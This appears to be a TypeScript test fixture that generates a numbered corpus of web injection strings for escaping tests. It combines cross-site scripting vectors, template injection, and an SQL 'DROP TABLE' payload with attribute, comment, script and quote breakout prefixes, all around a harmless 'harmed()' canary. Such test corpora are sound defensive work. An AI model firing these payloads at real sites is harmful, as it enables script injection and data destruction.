/**
 * Texts that would do harm wherever text is taken for markup, script, style, an address or a query: each way of acting in each place
 * it might break out of. Whatever runs calls `harm`.
 */

const ACTS = [
  (harm: string) => `<script>${harm}</script>`,
  (harm: string) => `<img src=x onerror=${harm}>`,
  (harm: string) => `<svg onload=${harm}>`,
  (harm: string) => `<svg><animate onbegin=${harm} attributeName=x dur=1s>`,
  (harm: string) => `<iframe srcdoc="&lt;script&gt;parent.${harm}&lt;/script&gt;">`,
  (harm: string) => `<details open ontoggle=${harm}>`,
  (harm: string) => `<input autofocus onfocus=${harm}>`,
  (harm: string) => `<a href="javascript:${harm}">x</a>`,
  (harm: string) => `<object data="javascript:${harm}">`,
  (harm: string) => `<form action="javascript:${harm}"><button>x</button></form>`,
  (harm: string) => `<base href="https://example.org/"><script src=a.js></script>`.replace('a.js', `${harm.length}.js`),
  () => '<link rel=stylesheet href=https://example.org/a.css>',
  () => '<img src=https://example.org/a.png srcset="https://example.org/b.png 2x">',
  () => '<style>*{background:url(https://example.org/c)}</style>',
  () => '<meta http-equiv=refresh content="0;url=https://example.org/">',
  (harm: string) => `javascript:${harm}//`,
  (harm: string) => `data:text/html,<script>parent.${harm}</script>`,
  (harm: string) => `{{constructor.constructor('${harm}')()}}`,
  (harm: string) => `\${${harm}}`,
  (harm: string) => `');${harm};//`,
] as const;

/** What stands before and behind, to leave an attribute, a comment, a text area, a script, a style, a quotation or a query first. */
const PLACES = [
  ['', ''],
  ['"><', '>'],
  ["'><", '>'],
  ['-->', '<!--'],
  ['</textarea>', ''],
  ['</script>', '<script>'],
  ['</style></title>', ''],
  ["'); DROP TABLE record; --", ''],
  ['" OR 1=1 NEAR(* ', '*'],
  ['&lt;b&gt;', '&#60;/b&#62;'],
] as const;

/** All of them, numbered so that each is told from the others. */
export function injections(harm = 'harmed()'): string[] {
  return PLACES.flatMap(([before, behind], place) =>
    ACTS.map((act, index) => `${place * ACTS.length + index} ${before}${act(harm)}${behind}`),
  );
}
